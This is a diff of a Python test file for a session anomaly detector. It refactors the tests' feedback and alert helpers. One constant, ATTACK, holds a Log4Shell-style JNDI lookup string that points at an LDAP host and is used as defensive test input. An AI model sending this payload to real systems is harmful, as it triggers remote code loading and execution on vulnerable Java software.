@@ -4,12 +4,11 @@ from typing import Any
 
 import numpy as np
 
-from detection.causes import KINDS
 from detection.detector import Detector
-from detection.frames import FeedbackFrame
 from detection.model import Model
+from detection.state import State
 from tests.detection.journal import Journal
-from tests.detection.simple import CLOSE, OPEN, READ, RESTARTED, RETRY, WRITE, fed, finished, line, said, session
+from tests.detection.simple import CLOSE, OPEN, READ, RESTARTED, RETRY, WRITE, alerts_of, answer, line, said, session
 
 ATTACK = b"looking up ${jndi:ldap://203.0.113.9/a}"
 
@@ -33,9 +32,9 @@ def told_alike(journal: Journal, key: str, texts: list[bytes], at: float = 2000.
 
 
 def test_a_session_strange_after_a_line_nobody_knew_is_novel_for_that_line_asked_or_come(
-    used_to_novelty: tuple[dict[str, object], Model],
+    used_to_novelty: tuple[State, Model],
 ) -> None:
-    journal = Journal(Detector.load(*used_to_novelty))  # type: ignore[arg-type]
+    journal = Journal(Detector.load(*used_to_novelty))
     said(journal, [line("now", OPEN, 2000)])  # the clock is there before the sessions are
     records = told_alike(journal, "x", [OPEN, RESTARTED, READ, READ, READ, OPEN, READ])
     (flagged,) = (record for record in records if record["flagged"])
@@ -57,8 +56,7 @@ def test_asked_and_come_agree_whatever_a_session_does(journal: Journal) -> None:
 
 def test_asked_and_come_agree_on_what_the_operator_has_called_normal(journal: Journal) -> None:
     odd = [OPEN, *[RETRY] * 6, CLOSE]
-    (alert,) = fed(journal, session("x", odd, 2000)) + finished(journal)
-    cause, kind = int(alert["cause"], 16), KINDS.index(alert["cause_kind"])
-    journal.apply(FeedbackFrame(alert["id"], cause, kind, alert["what"], "normal", ""))
+    (alert,) = alerts_of(journal, session("x", odd, 2000))
+    answer(journal, alert, "normal")
     records = told_alike(journal, "y", odd)
     assert not records[3]["flagged"] and alert["cause_kind"] == "shape"
